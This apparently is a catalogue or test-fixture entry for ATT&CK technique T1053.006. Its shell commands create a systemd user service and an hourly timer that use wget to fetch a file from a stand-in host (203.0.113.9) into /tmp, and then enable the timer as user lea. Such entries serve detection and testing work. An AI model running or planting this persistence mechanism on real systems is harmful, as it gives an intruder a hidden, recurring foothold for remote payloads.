# technique: T1053.006
# location: linux.systemd.user-timer
# source: /home/lea/.config/systemd/user/sync.timer
# severity: medium
printf '[Service]\nExecStart=/usr/bin/wget -q -O /tmp/s http://203.0.113.9/s\n' > /home/lea/.config/systemd/user/sync.service
printf '[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n' > /home/lea/.config/systemd/user/sync.timer
su lea -c 'systemctl --user enable sync.timer'
